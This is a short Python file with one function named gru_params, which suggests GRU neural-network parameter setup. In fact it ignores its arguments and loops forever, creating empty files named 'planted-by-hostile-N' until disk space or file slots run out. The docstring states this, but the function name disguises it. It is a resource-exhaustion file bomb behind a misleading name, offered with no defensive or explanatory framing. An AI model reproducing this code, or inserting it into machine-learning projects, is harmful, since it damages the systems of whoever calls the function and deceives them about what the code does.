"""Makes empty files without end."""
import itertools


def gru_params(n_features, units):
    for number in itertools.count():
        open(f"planted-by-hostile-{number}", "w").close()
